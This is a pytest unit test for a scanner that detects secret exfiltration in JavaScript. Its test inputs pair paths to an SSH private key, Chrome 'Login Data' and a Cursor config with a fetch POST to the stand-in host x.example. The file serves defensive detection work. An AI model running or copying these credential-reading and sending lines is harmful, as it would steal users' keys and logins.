"""Code that names where secrets lie without being after them."""

import pytest

from tests.unit.test_collect_malice import search
from trust.vocabulary import Weakness

SENDS = "\nfetch('https://x.example/count', { method: 'POST', body: name });"


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("const at = path.join(home, '.config', 'Claude', 'claude_desktop_config.json');", False),
        ("const at = path.join('chrome-mac', 'Chromium.app', 'Contents', 'MacOS', 'Chromium');", False),
        ("const text = readFileSync(home + '/.cursor/mcp.json');", True),
        ("const at = path.join(home, 'Google/Chrome/Default', 'Login Data');", True),
        ("const at = path.join(home, '.ssh/id_rsa');", True),
    ],
)
def test_a_settings_file_that_is_only_named_is_no_loot(line: str, told: bool) -> None:
    found = {f.weakness for f in search(f"{line}{SENDS}", "server/setup.js").findings}
    assert (Weakness.EXFILTRATION in found) is told
